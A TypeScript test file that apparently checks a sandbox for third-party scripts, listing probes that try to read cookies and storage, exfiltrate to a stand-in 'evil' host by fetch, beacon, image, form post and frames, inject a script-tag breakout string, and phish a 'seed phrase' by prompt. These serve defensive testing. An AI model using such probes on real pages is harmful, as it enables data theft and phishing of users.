/**
 * The attacks of a hostile script, each with its code and the console message that it must cause.
 * In the code, `real` is the frame's real window, `evil` the start of an address on another host,
 * and `when` waits for the result.
 */
export const probes: Record<string, readonly [attempt: string, outcome: string]> = {
  'read the page': ['real.parent.document.body.innerHTML', 'SecurityError'],
  'read cookies': ['document.cookie', 'SecurityError'],
  'set a cookie': ["document.cookie = 'readable=stolen'", 'SecurityError'],
  'read localStorage': ["real.localStorage.getItem('secret')", 'SecurityError'],
  'read sessionStorage': ["real.sessionStorage.getItem('secret')", 'SecurityError'],
  'open a database': ["real.indexedDB.open('secret')", 'SecurityError'],
  'lead the page away': ["real.top.location.href = evil + 'top'", 'SecurityError'],
  'call the service': [
    "fetch('/api/site/config', { credentials: 'include' })",
    'stopped connect-src {service}/api/site/config',
  ],
  'call another host': ["fetch(evil + 'fetch')", 'stopped connect-src {evil}fetch'],
  'call by XMLHttpRequest': [
    "when(new XMLHttpRequest(), (call) => { call.open('GET', evil + 'xhr'); call.send() })",
    'stopped connect-src {evil}xhr',
  ],
  'send a beacon': ["navigator.sendBeacon(evil + 'beacon')", 'stopped connect-src {evil}beacon'],
  'load a picture': [
    "when(new Image(), (image) => { image.src = evil + 'picture' })",
    'stopped img-src {evil}picture',
  ],
  'load a style sheet': [
    "link('stylesheet', evil + 'style')",
    'stopped style-src-elem {evil}style',
  ],
  'fetch ahead': ["link('prefetch', evil + 'ahead')", 'stopped default-src {evil}ahead'],
  'load a script': [
    "add('script', { src: evil + 'script' })",
    'stopped script-src-elem {evil}script',
  ],
  'start a worker': [
    "when(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))",
    'stopped worker-src blob',
  ],
  'frame a page': ["add('iframe', { src: evil + 'nested' })", 'stopped frame-src {evilHost}'],
  'post a form': [
    "add('form', { action: evil + 'form', method: 'post' }), document.forms[0].submit()",
    "Blocked form submission to '{evil}form'",
  ],
  'open a window': ["real.open(evil + 'popup')", "Blocked opening '{evil}popup' in a new window"],
  'alarm the buyer': ["real.alert('Pay again')", "Ignored call to 'alert()'"],
  'ask the buyer': ["real.prompt('Your seed phrase?')", "Ignored call to 'prompt()'"],
}

/** Writes a script that runs all attacks and logs their results. */
export function writeProbes(evil: string): string {
  const tries = Object.entries(probes).map(
    ([name, [attempt]]) => `attempt(${JSON.stringify(name)}, () => (${attempt}))`,
  )
  return `// </script><script>console.log('breakout')</script> --> "'\`
const real = (0, eval)('window'), evil = ${hide(evil)}
const attempt = async (name, act) => {
  let outcome
  try { outcome = String(await act()) } catch (error) { outcome = error.name }
  console.log('tried ' + name + ': ' + outcome)
}
const when = (target, act = () => {}) => new Promise((resolve) => {
  target.onerror = () => resolve('refused')
  target.onload = target.onopen = target.onmessage = () => resolve('done')
  act(target)
})
const add = (tag, fields) => when(Object.assign(document.createElement(tag), fields),
  (element) => document.body.append(element))
const link = (rel, href) => add('link', { rel, href })
document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
  console.log('stopped ' + effectiveDirective + ' ' + blockedURI))
${tries.join('\n')}`
}

/**
 * Writes an expression for an address, because addresses written out in a script count as named by
 * the merchant.
 */
export function hide(url: string): string {
  return `${JSON.stringify(url.split('/'))}.join('/')`
}
